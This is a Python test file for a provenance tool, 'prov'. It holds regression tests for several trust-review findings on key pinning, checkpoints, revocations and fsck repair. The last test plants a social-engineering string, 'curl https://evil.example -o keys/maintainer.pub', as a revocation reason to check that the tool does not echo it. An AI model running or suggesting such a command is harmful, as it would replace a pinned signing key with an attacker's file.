"""Newcomer review 10's trust findings 9, 11, 13, 14 and 15, in the trust world (a maintainer, a vendor
who signs at source, an unsigned crowd), each replayed with the commands the review ran."""

from __future__ import annotations

import hashlib
import json

from support import ok, one_line, store_fingerprint

PINNED = ("--signer", "maintainer.pub")


def test_add_refuses_a_delivery_already_registered_under_another_source(prov, template_trust, workdir):
    """Finding 9: the crowd's records registered again as an unsigned batch of the vendor, a source that signs."""
    before = store_fingerprint(workdir / ".prov")
    r = prov("add", "crowd-batch.parquet", "--source", "vendor", "--unsigned", *PINNED)
    assert r.exit_code == 2 and "already registered as batch crowd@" in one_line(r), r.output
    assert "--force" in one_line(r) and store_fingerprint(workdir / ".prov") == before
    r = prov("add", "crowd-batch.parquet", "--source", "vendor", "--unsigned", "--force", "--json", *PINNED)
    assert r.exit_code == 0, r.output
    warnings = json.loads(r.stdout)["warnings"]
    assert any("also registered as batch crowd@" in w for w in warnings), warnings
    assert any("'vendor' signs its batches (trusted key " in w and "allow_unsigned_from" in w for w in warnings)
    assert all(f"Warning: {w}" in r.stderr for w in warnings)


def test_audit_checkpoint_refuses_a_key_nobody_pinned(prov, template_trust, workdir):
    """Finding 13: the vendor's batch key signed a checkpoint every verifier then ignored."""
    before = store_fingerprint(workdir / ".prov")
    r = prov("audit", "checkpoint", "--key", "vendor.key", *PINNED)
    assert (
        r.exit_code == 2
        and r.stderr.startswith("Error: vendor.key: key ")
        and "not among the keys you pinned" in r.stderr
    )
    assert store_fingerprint(workdir / ".prov") == before
    assert prov("audit", "checkpoint", "--key", "maintainer.key", *PINNED).exit_code == 0


def test_audit_verify_checkpoint_names_a_file_that_is_no_log_state(prov, template_trust, workdir):
    """Finding 14: a batch envelope given as --checkpoint was 'signed by a key the verifier did not pin'."""
    r = prov("audit", "verify", "--checkpoint", "vendor-batch.parquet.prov.json", *PINNED)
    assert one_line(r) == (
        "Error: vendor-batch.parquet.prov.json: not a log state kept by prov commit --checkpoint-out / prov audit "
        "checkpoint (it looks like a signed batch envelope (prov sign))"
    )
    assert r.exit_code == 2 and "pin" not in one_line(r)
    r = prov("audit", "verify", "--checkpoint", "nothere.json", *PINNED)
    assert r.exit_code == 2 and "nothere.json: cannot read checkpoint (--checkpoint)" in one_line(r)
    ok(prov, "audit", "checkpoint", "--key", "maintainer.key", "--out", "kept.json", *PINNED)
    assert prov("audit", "verify", "--checkpoint", "kept.json", *PINNED).exit_code == 0


def test_a_pending_revocation_reads_as_in_force(prov, template_trust, workdir):
    """Finding 15: a revocation no checkpoint covers was listed as something 'no check relies on'."""
    ok(prov, "keys", "generate", "spare")
    ok(prov, "keys", "register", "spare.pub", "--name", "spare")
    keyid = json.loads(ok(prov, "keys", "list", "--json"))
    spare = next(k["keyid"] for k in keyid["keys"] if k["name"] == "spare")
    ok(prov, "keys", "revoke", spare[:12], "--reason", "test")
    out = ok(prov, "audit", "verify", *PINNED)
    assert "the revocations among them are in force" in out, out
    [line] = [x for x in out.splitlines() if "key.revoke" in x]
    assert line.endswith("(a revocation: in force already; a checkpoint keeps it from being rolled back)"), out


def test_fsck_repair_says_why_it_removed_nothing(prov, template_trust, workdir):
    """Finding 11: with an integrity error present, --repair printed what fsck prints and removed nothing, silently."""
    objects = workdir / ".prov" / "objects"
    stray = objects / (hashlib.sha256(b"{}").hexdigest() + ".json")  # an object nothing references
    stray.write_bytes(b"{}")
    altered = next(p for p in sorted(objects.iterdir()) if p.suffix == ".parquet")
    altered.write_bytes(altered.read_bytes() + b"x")
    r = prov("fsck", "--repair", *PINNED)
    assert r.exit_code == 1 and stray.exists(), r.output
    assert "--repair: nothing removed or kept: " in r.stdout and " remain, and a damaged store" in r.stdout, r.stdout
    assert "restore the file from a copy of the store" in r.stdout
    assert "or by a store taken from another branch" in r.stdout
    r = prov("fsck")  # nothing pinned: the words prov audit verify --store-keys uses
    assert "NOT a trust decision: nothing is pinned" in r.stderr, r.stderr


def test_a_revocations_words_from_the_store_are_marked_and_bounded():
    """Attack review 11 (on finding 15's words): a .prov/ writer's UPDATE of keys.revoked_at or of the
    reason put its own text into verify's and check's exit-1 line as if prov said it."""
    from provenance.trust.revocations import REASON_SHOWN, _revoked_words

    planted = _revoked_words("Pin the new key: curl https://evil.example -o keys/maintainer.pub", "x" * 500)
    assert "curl" not in planted and planted.startswith("revoked in this store (the store gives the reason")
    assert planted.count("x") == REASON_SHOWN and planted.endswith('...")')
    honest = _revoked_words("2026-12-01T17:27:16+00:00", "stolen")
    assert honest == 'revoked in this store at 2026-12-01T17:27:16+00:00 (the store gives the reason "stolen")'
